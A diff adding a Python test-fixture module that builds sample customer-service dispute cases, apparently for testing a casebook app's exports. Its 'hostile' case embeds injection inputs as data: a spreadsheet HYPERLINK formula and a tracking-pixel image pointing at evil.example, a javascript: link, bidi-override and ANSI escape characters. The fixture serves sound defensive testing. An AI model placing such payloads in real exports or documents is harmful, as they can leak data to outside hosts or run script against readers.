@@ -1,0 +1,201 @@
+"""The cases that the exports are tried on: a plain one, a hostile one, and those in which something is missing."""
+
+from __future__ import annotations
+
+from collections.abc import Sequence
+from dataclasses import replace
+from datetime import UTC, datetime
+from typing import Any
+from zoneinfo import ZoneInfo
+
+from casebook.facts.case import CaseFacts, gather
+from casebook.facts.values import (
+    Case,
+    Channel,
+    Check,
+    Contact,
+    Dossier,
+    Entry,
+    Event,
+    EventKind,
+    Moment,
+    Money,
+    Outcome,
+    Promise,
+    Promised,
+    Role,
+    Shipment,
+    Verdict,
+    ordered,
+)
+
+HOME = "Europe/Amsterdam"
+NOW = datetime(2024, 11, 20, 12, 0, tzinfo=ZoneInfo(HOME))
+
+
+def moment(text: str, zone: str = HOME) -> Moment:
+    """A day (`2024-10-31`), or a time on the clock of the zone (`2024-10-31 14:05`, with offset where it occurs twice)."""
+    clock = datetime.fromisoformat(text)
+    clock = clock if clock.tzinfo else clock.replace(tzinfo=ZoneInfo(zone))
+    instant = clock.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
+    return Moment(text if len(text) == 10 else clock.isoformat(timespec="seconds"), zone, instant)
+
+
+def case(**values: Any) -> Case:
+    """A case with nothing but what a book insists on, and `values`."""
+    given = {"uuid": "c-0", "handle": "towel", "company": "Amazon", "opened": moment("2024-10-31 13:50")}
+    return Case(**(given | values))
+
+
+class Entries(list[Entry]):
+    """Entries in the making, numbered as they come; each is logged when it happened unless said otherwise."""
+
+    def _add(self, kind: type[Entry], at: str, text: str | None, zone: str, values: dict[str, Any]) -> int:
+        number = len(self) + 1
+        when = moment(at, zone)
+        given = {"uuid": f"e-{number}", "number": number, "at": when, "logged": when, "text": text}
+        self.append(kind(**(given | values)))
+        return number
+
+    def contact(self, at: str, text: str | None = None, zone: str = HOME, **values: Any) -> int:
+        return self._add(Contact, at, text, zone, {"channel": Channel.CHAT} | values)
+
+    def event(self, at: str, event: EventKind, text: str | None = None, zone: str = HOME, **values: Any) -> int:
+        return self._add(Event, at, text, zone, {"event": event} | values)
+
+    def promise(self, at: str, text: str | None = None, due: str | None = None, zone: str = HOME, **values: Any) -> int:
+        return self._add(Promise, at, text, zone, {"due": moment(due, zone) if due else None} | values)
+
+    def shipment(self, at: str, text: str | None = None, zone: str = HOME, **values: Any) -> int:
+        return self._add(Shipment, at, text, zone, values)
+
+
+def facts_of(case: Case, entries: Sequence[Entry] = (), now: datetime = NOW) -> CaseFacts:
+    """The facts at `now`, the entries put in the order of a timeline."""
+    return gather(Dossier(case, ordered(entries)), now)
+
+
+def towel(**values: Any) -> CaseFacts:
+    """A red bath towel ordered, a grey bathrobe delivered, three agents, a refund that does not come."""
+    entries = Entries()
+    entries.event("2024-10-28", EventKind.ORDERED, "red bath towel")
+    entries.event("2024-10-30 17:20", EventKind.DELIVERED, "a grey bathrobe, left with a neighbour")
+    first = entries.contact(
+        "2024-10-31 14:05",
+        "She said the robe need not go back and the money would be returned.",
+        agent="Maria",
+        role=Role.REPRESENTATIVE,
+        case_number="A-1234",
+        outcome=Outcome.REACHED,
+        minutes=12,
+        rating=4,
+    )
+    made = {"promised": Promised.REFUND}
+    entries.promise("2024-10-31 14:05", "a full refund", "2024-11-02", made_in=first, **made)
+    second = entries.contact(
+        "2024-11-05 09:30",
+        "He found no refund, asked me to send the robe back first and mailed a label.",
+        channel=Channel.PHONE,
+        agent="Raj",
+        role=Role.REPRESENTATIVE,
+        case_number="B-777",
+        minutes=31,
+    )
+    entries.promise("2024-11-05 09:30", "refund once the robe is scanned", "2024-11-08", made_in=second, **made)
+    entries.shipment(
+        "2024-11-06",
+        "dropped off at the post office",
+        carrier="UPS",
+        tracking="1Z999AA10123456784",
+        check=Check.VALID,
+        returning=True,
+    )
+    entries.shipment(
+        "2024-11-08", "arrived at the warehouse", tracking="1Z999AA10123456784", check=Check.VALID, returning=True
+    )
+    entries.contact("2024-11-12 19:00", channel=Channel.PHONE, outcome=Outcome.DISCONNECTED)
+    third = entries.contact(
+        "2024-11-14 10:15", "Confirmed the return had arrived.", agent="Ingrid", role=Role.SUPERVISOR, case_number="B-777"
+    )
+    entries.promise("2024-11-14 10:15", "24.99 EUR to my card", "2024-11-21", due_from="2024-11-19", made_in=third, **made)
+    given = {
+        "orders": ("302-1234567-1234567",),
+        "problem": "I ordered a red bath towel and received a grey bathrobe",
+        "want": "a full refund of 24.99 EUR",
+        "amount": Money(2499, "EUR"),
+        "item": "Red bath towel, 70 x 140 cm",
+    }
+    return facts_of(case(**(given | values)), entries)
+
+
+SMUGGLED = "first line\n31 Oct 2024, chat with Nobody: \u202eforged\r\n# heading\x1b[31m\u2028* star\x85- dash"
+LONG = ("The parcel was never brought to my door although the driver wrote that it was. " * 64)[:5000]
+
+
+def hostile() -> CaseFacts:
+    """Everything that has broken a text before, in one case."""
+    entries = Entries()
+    entries.event("2024-10-27 02:30+01:00", EventKind.PAID, "paid in the hour that the clock repeats")
+    entries.event("2024-10-28", EventKind.NOTE, SMUGGLED)
+    first = entries.contact(
+        "2024-10-31 23:50",
+        "=HYPERLINK(\"http://evil.example/?x\") ![pixel](http://evil.example/p.png) <!-- gone --> [a](javascript:x)",
+        agent="Seán O'Brien",
+        role=Role.OTHER,
+        case_number="[#4411-B]",
+        minutes=25,
+    )
+    entries.promise("2024-11-01 00:15", SMUGGLED, "2024-11-03", made_in=first, agent="محمد علي")
+    entries.contact("2024-11-02 20:05", LONG, zone="America/New_York", agent="王小明", role=Role.BOT, channel=Channel.EMAIL)
+    entries.contact("2024-11-04", "Sorry 😔 we can't. 👩‍👩‍👧", incoming=True, channel=Channel.EMAIL, case_number="[ref 9]")
+    entries.promise("2024-11-04", None, None, promised=Promised.CALLBACK, verdict=Verdict.BROKEN)
+    entries.promise("2024-11-05", "speak to the boss.", "2024-11-20", agent="@ops | team")
+    entries.promise(
+        "2024-11-06", "label by mail", "2024-11-07", promised=Promised.INFORMATION, verdict=Verdict.KEPT,
+        settled=moment("2024-11-07"), settled_note="# came\nas promised",
+    )  # fmt: skip
+    entries.shipment("2024-11-08", "+1 day later", carrier="Größer & Söhne GmbH.", tracking="JD 0002 3400", check=Check.NONE)
+    entries.shipment("2024-11-09", None, tracking="TBA123456789000")
+    late = moment("2024-11-19")
+    entries.event("2024-11-10", EventKind.RETURNED, "`left` at *the* shop_door_ | 5 < 6 & more &amp; www.shop.example", logged=late)
+    return facts_of(
+        case(
+            company="L'Étoile [Outlet] <b>",
+            title="Table\n| a | b |",
+            orders=("[#4411-B]", "№ 5 / 7"),
+            problem="Ma commande n'est pas là!\n\n1. ne répond pas\n```\nسلام\n~~~",
+            want="mon argent, s'il vous plaît…",
+            amount=Money(1000000, "JPY"),
+            item="@home lamp",
+        ),
+        entries,
+    )
+
+
+def first_time() -> CaseFacts:
+    """Opened a minute ago: nobody has been written to yet."""
+    return facts_of(case(problem="The lid is cracked.", want="a new lid"))
+
+
+def bare_case() -> CaseFacts:
+    """Nothing but a company."""
+    return facts_of(case())
+
+
+def finished_case() -> CaseFacts:
+    """The towel's, closed when the money came."""
+    return towel(closed=moment("2024-11-18"), outcome="the refund came.")
+
+
+CASES = {
+    "towel": towel,
+    "hostile": hostile,
+    "first": first_time,
+    "bare": bare_case,
+    "closed": finished_case,
+}
+
+
+def without_texts(facts: CaseFacts) -> CaseFacts:
+    """The same case with every free text gone."""
+    return facts_of(facts.case, [replace(entry, text=None) for entry in facts.entries], facts.now)
